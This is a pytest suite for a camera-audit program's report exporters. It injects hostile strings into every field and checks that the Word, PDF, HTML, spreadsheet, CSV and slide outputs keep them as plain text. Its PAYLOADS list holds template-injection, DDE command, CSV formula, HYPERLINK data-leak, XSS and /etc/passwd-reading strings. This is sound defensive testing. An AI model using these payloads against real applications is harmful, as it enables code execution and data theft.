"""Text of the data is text in every format: nothing runs, nothing is lost, nothing runs off a page.

The texts are put into every field that holds one, found by walking the dataclasses, so that a new field is not forgotten.
"""

import csv
import html
import io
import json
import re
import shutil
import subprocess
import zipfile
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from html.parser import HTMLParser
from itertools import count

import docx
import openpyxl
import pandas as pd
import pyogrio
import pytest
from amounts import some_by_day
from map_areas import features
from pptx import Presentation
from report_factory import a_check, a_project, certain_camera

from lhasaplan import workflow
from lhasaplan.bootstrap import open_services
from lhasaplan.core.base.spelling import printable
from lhasaplan.core.base.translations import Translations
from lhasaplan.core.model.file_kinds import BUNDLE_FORMAT
from lhasaplan.core.project.decisions import Declaration
from lhasaplan.core.project.project import Project
from lhasaplan.core.results.assessment import Assessment
from lhasaplan.io.content.catalogue import load_translations
from lhasaplan.report.documents.audit_and_plan import compose_audit, compose_plan
from lhasaplan.report.facts.tables import all_tables
from lhasaplan.report.formats.html import page
from lhasaplan.report.formats.pdf import write_document
from lhasaplan.report.formats.pptx import build
from lhasaplan.report.redaction import public_values
from lhasaplan.report.slides.council_deck import compose_audit_deck
from lhasaplan.report.text.document import Document, Paragraph
from lhasaplan.report.text.text_width import BREAK

# Formulas of the program, whole: ranges and a word in quotes, nothing that opens another file, an address or a program.
OWN_FORMULA = re.compile(
    r"""=(?:SUM|COUNTIF)\('[a-z ]+'![$A-Z0-9:]+(?:,"[^"]*")?\)|=IF\(ABS\(B\d+-C\d+\)<0\.5,"[^"]*","[^"]*"\)"""
)
OWN_FIELDS = re.compile(r"PAGE|NUMPAGES|SEQ (Table|Figure) \\\* ARABIC|REF [\w-]+ \\h|PAGEREF _Toc\d+ \\h")

PAYLOADS = (
    "={{7*7}} seven",
    "{% for x in y %}{% endfor %}{{ cycler.__init__.__globals__.os.popen('touch run').read() }}",
    '#{7*7} ${7*7} <%= 7*7 %> #read("/etc/passwd") #sys *b* _i_ `code` $x^2$ @label',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "<script>document.title='ran'</script><img src=x onerror=\"document.title='ran'\">",
    "</script><script>document.title='ran'</script><!--",
    "javascript:document.title='ran' \"' onmouseover='x",
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } { INCLUDETEXT "/etc/passwd" }',
    "[red]no colour[/red] :bus: &P&N &amp; &lt;b&gt; ]]> %s %(x)s {0.__class__} {name} {",
    "$\\frac{1}{0}$ $unclosed \\input{/etc/passwd}",
    "http://example.org/ mailto:a@b.c file:///etc/passwd \\\\host\\share",
    "bell\x07 escape\x1b[31m null\x00 \u202egnp.exe\u202c \u2066x\u2069 \ud800 \x85 end",
    "宅" * 40,
    "é" * 60,
)
LONG = "W" * 300
BEGINNING = 24  # signs of a text that no page break of a PDF parts
# Fields whose text no user sets: they come from closed lists, are digests, or are read by machines.
CLOSED = {
    *("crs", "sha256", "basis", "action", "verdict", "verdict_after", "fact", "shape", "unit", "wkt", "status"),
    *("plan_area_wkt", "building_extent_wkt", "lens_class", "surface", "side", "level", "question"),
}
# Of records: those of findings, inputs and parts name a rule of ours; a camera's is an Enum.
CLOSED_IN = {("Finding", "kind"), ("Part", "kind"), ("SeenSurface", "kind"), ("SeenSurface", "storey")}
NEVER_SHOWN = {"layers", "terrain", "closed", "journal"}
EMPTY_MEANS = {"milder_camera", "approved_on", "building"}  # an empty one says that there is none


class Hostile:
    """Gives every text of a value a payload; the same text gets the same one, so that names still fit together."""

    def __init__(self, *payloads):
        self.payloads, self.given, self.numbers = payloads, {}, count()

    def of(self, text):
        if text not in self.given:
            number = next(self.numbers)
            self.given[text] = f"{self.payloads[number % len(self.payloads)]} {number}{text}"
        return self.given[text]

    def __call__(self, value, name="", owner=""):
        if isinstance(value, Enum) or value is None:
            return value
        if isinstance(value, str):
            kept = name in CLOSED or (owner, name) in CLOSED_IN or (not value and name in EMPTY_MEANS)
            return value if kept else self.of(value)
        if isinstance(value, dict):
            return {key: self(each, key, owner) for key, each in value.items()}
        if type(value) in (tuple, list):
            return type(value)(self(each, name, owner) for each in value)
        return self._fields(value) if is_dataclass(value) else value

    def _fields(self, value):
        names = [each.name for each in fields(value) if each.name not in NEVER_SHOWN]
        return replace(value, **{name: self(getattr(value, name), name, type(value).__name__) for name in names})


def hostile_city(*payloads) -> tuple[Project, Assessment, Hostile]:
    """Return a project and its answers in which every text is hostile, unknown columns and packs' terms too."""
    give = Hostile(*payloads)
    extra = {"contact": "desk", "hours": "day", "recipients": "none", "colour": "red", "legal_basis": "x"}
    project = replace(a_project(), declarations=(Declaration("p1", "indoor", "D. Clerk", "2024-01-01"),))
    camera = replace(certain_camera().placed.camera, extra=extra, purpose="safety of the bridge", sign="none")
    check = a_check(synthetic=True)
    first = replace(check.cameras[0], placed=replace(check.cameras[0].placed, camera=camera), area_names=("Old town",))
    check = replace(check, cameras=(first, *check.cameras[1:]), terms={"category:bridge": {"en": "bridge"}})
    return give(replace(project, cameras=(camera,))), give(check), give


@pytest.fixture(scope="module")
def city():
    return hostile_city(*PAYLOADS)


@pytest.fixture(scope="module")
def drafts(city, tmp_path_factory):
    """Every format of the hostile city, written as a user has them written."""
    project, assessment, _ = city
    folder = tmp_path_factory.mktemp("hostile")
    services = open_services()
    formats = tuple(name for name in services.writers if name != BUNDLE_FORMAT)  # which holds its packs, and these are made up
    workflow.export(services, project, assessment, formats, folder, language="en")
    services.drafts.write_json(services.drafts.public_values(project, assessment, False)[1], folder / "check.json")
    return folder


@pytest.fixture(scope="module")
def reported(city):
    """The words of the drafts as they should come out, line by line."""
    project, assessment = public_values(*city[:2])
    english = load_translations("en")  # with the singular of what is one
    both = compose_audit(project, assessment, english), compose_plan(project, assessment, english)
    return {"audit": printed(both[0]), "plan": printed(both[1])}


def printed(draft):
    """Return what a draft prints."""
    return draft.text()


def squeezed(text):
    """Return text without any space: formats break lines where they will."""
    return re.sub(rf"[\s\xa0{BREAK}|]", "", text)


def holds(text, lines):
    """Assert that every piece of the draft stands in what was read back."""
    found = squeezed(text)
    for line in lines.splitlines():
        for piece in line.split(" | "):
            assert squeezed(piece) in found, piece


def word_text(path):
    word = docx.Document(path)
    cells = [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    head = [paragraph.text for section in word.sections for paragraph in section.header.paragraphs]
    return "\n".join([*head, *(paragraph.text for paragraph in word.paragraphs), *cells])


def test_that_every_text_of_a_project_and_its_answers_got_a_payload(city):
    project, assessment, give = city
    texts = set(give.given.values())
    assert len(texts) > 50
    camera = assessment.cameras[0].placed.camera
    open_fields = {one.name for one in fields(camera) if isinstance(getattr(camera, one.name), str)} - {"level", "status"}
    hostile = {name for name in open_fields if getattr(camera, name) in texts}
    assert open_fields - hostile <= EMPTY_MEANS | {"kind", "mount", "lens_class"}
    assert set(camera.extra.values()) <= texts
    assert {getattr(project.mandate, name) for name in ("controller", "legal_basis", "public_register")} <= texts


@pytest.mark.parametrize("name", ["audit", "plan"])
def test_that_word_holds_every_text_whole_and_no_field_of_it(drafts, reported, name):
    holds(word_text(drafts / f"{name}.docx"), reported[name])
    with zipfile.ZipFile(drafts / f"{name}.docx") as parts:
        codes = re.findall(r"<w:instrText[^>]*>([^<]*)<", "".join(parts.read(n).decode() for n in parts.namelist() if "xml" in n))
    assert all(OWN_FIELDS.fullmatch(html.unescape(code.strip())) for code in codes), codes


# By day the plan, which has what an audit has and more.
DRAFTS = some_by_day(("audit", "plan"), {"plan"})


@pytest.mark.parametrize("name", DRAFTS)
def test_that_a_web_page_holds_every_text_whole_and_no_element_of_it(drafts, reported, name):
    reader = Tags()
    reader.feed((drafts / f"{name}.html").read_text("utf-8"))
    holds("".join(reader.words), reported[name])
    assert not {"script", "a[http", "iframe", "object"} & reader.tags
    assert not reader.handlers
    assert reader.links
    assert {link.removeprefix("#") for link in reader.links} <= reader.anchors


class Tags(HTMLParser):
    """The elements and words of a page as a browser finds them."""

    def __init__(self):
        super().__init__()
        self.tags, self.anchors, self.words, self.links, self.handlers, self.inside = set(), set(), [], [], [], ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.inside = tag
        self.anchors |= {value for name, value in attrs if name == "id"}
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.links += [value for name, value in attrs if name in ("href", "srcset")]

    def handle_data(self, data):
        if self.inside not in ("style", "script"):
            self.words.append(data)


def test_that_the_map_has_its_two_scripts_and_the_texts_as_data(drafts, city):
    text = (drafts / "map.html").read_text("utf-8")
    plain = page(a_project(), a_check(), Translations())
    scripts = re.compile(r"<script>(.*?)</script>", re.DOTALL)
    assert scripts.findall(text) == scripts.findall(plain)
    popups = "\n".join(one["properties"]["text"] for one in features(text))
    for result in city[1].cameras:
        camera = result.placed.camera
        for text in (camera.camera_id, camera.name):
            assert " ".join(printable(text).splitlines()) in popups
    reader = Tags()
    reader.feed(text)
    assert not reader.handlers
    assert not {"img", "iframe", "object", "a"} & reader.tags


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext is not installed")
@pytest.mark.parametrize("name", DRAFTS)
def test_that_a_pdf_holds_every_text_as_it_is(drafts, city, reported, name):
    found = subprocess.run(["pdftotext", "-raw", drafts / f"{name}.pdf", "-"], capture_output=True, text=True, check=True).stdout
    read, lines = squeezed(found), squeezed(reported[name])
    texts = [squeezed(printable(text)) for text in city[2].given.values()]
    begun = [text[:BEGINNING] for text in texts if text in lines]
    assert len(begun) > 10
    assert not [text for text in begun if text not in read]
    assert "49 seven" not in found
    assert "root:x:0" not in found


def test_that_a_workbook_has_text_in_its_cells_and_no_formula_or_link(drafts, city):
    book = openpyxl.load_workbook(drafts / "audit.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "f"}
    given = [text for text in city[2].given.values() if isinstance(text, str) and len(text) > 3]
    formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]  # totals of the program's own
    assert formulas
    assert not [text for text in formulas if not OWN_FORMULA.fullmatch(text) or any(each in text for each in given)]
    assert not [cell for cell in cells if cell.hyperlink]
    _, assessment = public_values(*city[:2])
    wanted = {
        v for table in all_tables(assessment, load_translations("en")) for row in table.rows for v in row if isinstance(v, str)
    }
    shown = "\n".join(str(cell.value) for cell in cells)
    named = {text for text in wanted if text in city[2].given.values() or printable(text) != text}
    assert named
    assert all(text in shown for text in named)
    assert all(len(sheet.oddHeader.left.text or "") <= 255 for sheet in book)


def test_that_a_geopackage_has_the_texts_as_values(drafts, city):
    _, assessment = public_values(*city[:2])
    cameras = pyogrio.read_dataframe(drafts / "audit.gpkg", layer="cameras")
    assert set(cameras.camera_id) == {one.placed.camera.camera_id for one in assessment.cameras}
    metadata = pyogrio.read_dataframe(drafts / "audit.gpkg", layer="metadata")
    assert isinstance(metadata, pd.DataFrame)
    assert assessment.project in set(metadata.value)


def test_that_the_register_and_the_answers_in_json_have_the_texts_as_they_are(drafts, city):
    _, assessment = public_values(*city[:2])
    entries = json.loads((drafts / "register.json").read_text("utf-8"))["entries"]
    first, camera = entries[0], assessment.cameras[0].placed.camera
    keys = (("name", camera.name), ("operator", camera.owner), ("purpose", camera.purpose), ("contact", camera.extra["contact"]))
    assert [first[key] for key, _ in keys] == [text for _, text in keys]
    answers = json.loads((drafts / "check.json").read_text("utf-8"))
    assert [one["id"] for one in answers["cameras"]] == [one.placed.camera.camera_id for one in assessment.cameras]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_that_no_cell_of_a_csv_begins_as_a_formula(payload, tmp_path):
    project, assessment, _ = hostile_city(payload)
    workflow.export(open_services(), project, assessment, ("register",), tmp_path, language="en")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "register.csv").read_text("utf-8"), newline="")))
    for row, entry in zip(rows, json.loads((tmp_path / "register.json").read_text("utf-8"))["entries"], strict=True):
        for key, text in row.items():
            assert text[:1] not in "=@\t\r＝＠" or not text, text
            assert not text.startswith(("+", "-")) or float(text) == entry[key]
            if isinstance(entry[key], str):
                assert text.removeprefix("'") == entry[key]


def test_that_slides_have_text_in_their_runs_and_no_link(drafts):
    slides = Presentation(drafts / "plan.pptx").slides
    frames = [shape.text_frame for slide in slides for shape in slide.shapes if shape.has_text_frame]
    runs = [run for frame in frames for paragraph in frame.paragraphs for run in paragraph.runs]
    assert runs
    assert not [run for run in runs if run.hyperlink.address]
    with zipfile.ZipFile(drafts / "plan.pptx") as parts:
        text = "".join(parts.read(name).decode() for name in parts.namelist() if name.endswith(".xml"))
    assert "{{7*7}} seven" in html.unescape(text)
    assert not re.search(r"hlinkClick|DDEAUTO[^<]*</c:f>|<p:oleObj", text)


# Pages


@pytest.fixture(scope="module")
def long_city():
    return hostile_city(LONG)[:2]


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext is not installed")
@pytest.mark.parametrize(
    ("form", "names"),
    # The plan and the audit are set by the same words of one page: by day the letter, whose page is another, goes that way.
    [("letter", ("letter-of-access.pdf",)), pytest.param("pdf", ("audit.pdf", "plan.pdf"), marks=pytest.mark.nightly)],
)
def test_that_no_word_of_a_pdf_stands_outside_its_page(form, names, long_city, tmp_path):
    workflow.export(open_services(), *long_city, (form,), tmp_path, language="en")
    for name in names:
        read = subprocess.run(["pdftotext", "-bbox", tmp_path / name, "-"], capture_output=True, text=True, check=True).stdout
        outside = list(words_outside(read, margin=10.0))
        assert not outside, (name, outside[:3])
        text = subprocess.run(["pdftotext", "-raw", tmp_path / name, "-"], capture_output=True, text=True, check=True).stdout
        assert LONG in squeezed(text)


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext is not installed")
def test_that_the_head_of_a_page_holds_every_mark(tmp_path):
    marks = ("DRAFT, NOT APPROVED", "FICTITIOUS / SYNTHETIC DATA", "CHANGED: " + "not as shipped, " * 12, "A fourth mark")
    draft = Document("W" * 100, "W" * 100, "en", marks, (Paragraph("First line"),))
    path = write_document(draft, tmp_path / "marks.pdf", Translations())
    read = subprocess.run(["pdftotext", "-bbox", path, "-"], capture_output=True, text=True, check=True).stdout
    assert not list(words_outside(read, margin=15.0))
    bottoms = {word: float(y) for y, word in re.findall(r'yMax="(\S+)">([^<]*)</word>', read)}
    tops = {word: float(y) for y, word in re.findall(r'yMin="(\S+)" xMax="\S+" yMax="\S+">([^<]*)</word>', read)}
    assert bottoms["fourth"] < tops["First"]


def words_outside(bbox, margin):
    """Give the words that reach into the outermost points of a page."""
    for width, height, inside in re.findall(r'<page width="([\d.]+)" height="([\d.]+)">(.*?)</page>', bbox, re.DOTALL):
        for found in re.findall(r'xMin="(\S+)" yMin="(\S+)" xMax="(\S+)" yMax="(\S+)">(.*?)</word>', inside):
            x_min, y_min, x_max, y_max = map(float, found[:4])
            if min(x_min, y_min) < margin or x_max > float(width) - margin or y_max > float(height) - margin:
                yield found


def test_that_the_boxes_of_a_slide_end_on_the_slide(long_city):
    deck = build(compose_audit_deck(*long_city, Translations()))
    for number, slide in enumerate(deck.slides, 1):
        for shape in slide.shapes:
            height = sum(row.height for row in shape.table.rows) if shape.has_table else shape.height
            assert shape.top + height <= deck.slide_height, (number, shape.name)
            assert shape.left + shape.width <= deck.slide_width, (number, shape.name)
